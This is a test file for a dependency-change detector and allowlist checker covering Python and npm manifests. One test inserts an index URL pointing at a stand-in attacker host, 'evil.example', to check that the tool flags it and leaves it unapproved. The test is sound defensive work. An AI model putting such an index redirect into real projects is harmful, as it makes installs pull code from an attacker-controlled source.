import { describe, expect, it } from "vitest";
import { allowedBy, packageLabel, parseAllowList } from "@loopsmith/shared/contracts";
import { packageChanges } from "./packages.js";

const labels = (path: string, before: string | undefined, after: string | undefined): string[] =>
  packageChanges(path, before, after).map(packageLabel);

describe("packageChanges", () => {
  it("reads requirements files: added, removed and re-pinned packages, names compared as PEP 503 does", () => {
    expect(
      labels(
        "requirements.txt",
        "requests==2.31.0\nFlask_Login>=0.6  # auth\nsix\n",
        "requests==2.32.0\nflask-login>=0.6\nrich[jupyter]>=13\n",
      ),
    ).toEqual(["requests ==2.31.0 → ==2.32.0", "+rich [jupyter]>=13", "-six"]);
    // A new file: every line is a new package.
    expect(labels("requirements-dev.txt", undefined, "pytest==8.0\n")).toEqual(["+pytest ==8.0"]);
  });

  it("counts an index URL or an included file as a change of the file, which no list approves", () => {
    const changes = packageChanges(
      "requirements.txt",
      "requests\n",
      "--index-url https://evil.example/simple\nrequests\n",
    );
    expect(changes).toHaveLength(1);
    expect(changes[0]).toMatchObject({ manifest: "requirements.txt", name: "requirements.txt" });
    expect(allowedBy(changes, [parseAllowList("requests\nrequirements.txt\n", "/l")])).toBeUndefined();
  });

  it("reads pyproject's PEP 621, optional, build and Poetry dependencies, and nothing else", () => {
    const before = '[project]\nname = "x"\ndependencies = ["requests>=2"]\n[tool.black]\nline-length = 88\n';
    const after =
      '[project]\nname = "x"\ndependencies = ["requests>=2", "httpx==0.27"]\n[project.optional-dependencies]\ndev = ["pytest"]\n[tool.black]\nline-length = 100\n';
    expect(labels("pyproject.toml", before, after)).toEqual(["+httpx ==0.27", "+pytest"]);
    const poetry = (deps: string) => `[tool.poetry.dependencies]\npython = "^3.11"\n${deps}`;
    expect(labels("pyproject.toml", poetry(""), poetry('numpy = "^2.0"\n'))).toEqual(["+numpy ^2.0"]);
    // A Poetry source is not a package: the file itself is the change.
    const source = poetry('[[tool.poetry.source]]\nname = "mirror"\nurl = "https://m.example/simple"\n');
    expect(packageChanges("pyproject.toml", poetry(""), source).map((c) => c.name)).toEqual(["pyproject.toml"]);
  });

  it("reads package.json's dependency fields; overrides are a change of the file", () => {
    const before = JSON.stringify({ dependencies: { lodash: "^4.17.20" }, scripts: { test: "vitest" } });
    const after = JSON.stringify({ dependencies: { lodash: "^4.17.21" }, devDependencies: { "@types/node": "^20" } });
    expect(labels("package.json", before, after)).toEqual(["+@types/node ^20", "lodash ^4.17.20 → ^4.17.21"]);
    const overrides = JSON.stringify({ dependencies: { lodash: "^4.17.20" }, overrides: { minimist: "1.2.8" } });
    expect(packageChanges("package.json", before, overrides).map((c) => c.name)).toEqual(["package.json"]);
  });

  it("makes a lock file or setup.py one entry with a hash of its new content", () => {
    const [a] = packageChanges("package-lock.json", "{}", '{"lockfileVersion":3}');
    const [b] = packageChanges("package-lock.json", "{}", '{"lockfileVersion":2}');
    expect(a?.name).toBe("package-lock.json");
    expect(a?.after).toMatch(/^sha256:[0-9a-f]{12}$/);
    expect(a?.after).not.toBe(b?.after);
  });
});

describe("allowlists", () => {
  it("parse one name a line, comments and versions ignored, names normalised", () => {
    expect(parseAllowList("# ours\nRequests==2.32\n@types/node@^20\n\nflask_login  # auth\n", "/x").packages).toEqual([
      "@types/node",
      "flask-login",
      "requests",
    ]);
  });

  it("approve only when one list names every changed package", () => {
    const changes = packageChanges("requirements.txt", "requests==2.31.0\n", "requests==2.32.0\ntabulate\n");
    const repo = parseAllowList("requests\n", "/repo/.loopsmith/allowed-dependencies");
    const user = parseAllowList("requests\ntabulate\n", "/home/u/.config/loopsmith/allowed-dependencies");
    expect(allowedBy(changes, [repo])).toBeUndefined();
    expect(allowedBy(changes, [repo, user])?.source).toBe("/home/u/.config/loopsmith/allowed-dependencies");
    expect(allowedBy([], [user])).toBeUndefined();
  });
});
